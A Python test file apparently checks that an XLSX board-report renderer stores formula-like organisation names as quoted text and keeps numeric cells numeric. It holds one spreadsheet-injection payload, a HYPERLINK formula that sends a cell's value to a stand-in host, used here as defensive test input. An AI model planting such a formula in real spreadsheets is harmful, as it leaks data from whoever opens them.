"""The board report's workbook shows text that looks like a formula as text (issue 11)."""

from __future__ import annotations

import dataclasses
import io
import zipfile

import openpyxl

from talentboard.reports.model import Column, Table
from talentboard.reports.xlsx import HEADER_ROW, render_xlsx
from tests.reports.documents import BY_ROLE, sample_report

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'


def test_an_organisation_named_like_a_formula_is_a_text_cell_and_numbers_stay_numbers() -> None:
    table = Table(
        name="by_org",
        caption="Board figures by organisation",
        sheet="By organisation",
        columns=(
            Column("org", "Organisation", "text"),
            Column("posts", "Executive posts", "count"),
            Column("wres9_gap_pp", "WRES 9 gap (pp)", "pp"),
        ),
        rows=((HOSTILE, 10, -12.5), ("@Trust", 5, 3.0), ("Plain NHS Trust", 7, -0.5)),
    )
    report = dataclasses.replace(sample_report(), workbook=(BY_ROLE, table))
    data = render_xlsx(report)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["By organisation"]
    first, second, third = (list(sheet[HEADER_ROW + i]) for i in (1, 2, 3))
    assert first[0].value == HOSTILE
    assert first[0].data_type == "s"
    assert first[0].quotePrefix
    assert second[0].value == "@Trust"
    assert second[0].quotePrefix
    assert third[0].value == "Plain NHS Trust"
    assert not third[0].quotePrefix
    # A negative gap is a number, formatted with its sign, not text.
    assert first[2].value == -12.5
    assert first[2].data_type == "n"
    assert third[2].value == -0.5
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = book.read(name).decode()
                assert "<f>" not in xml
                assert "<f " not in xml
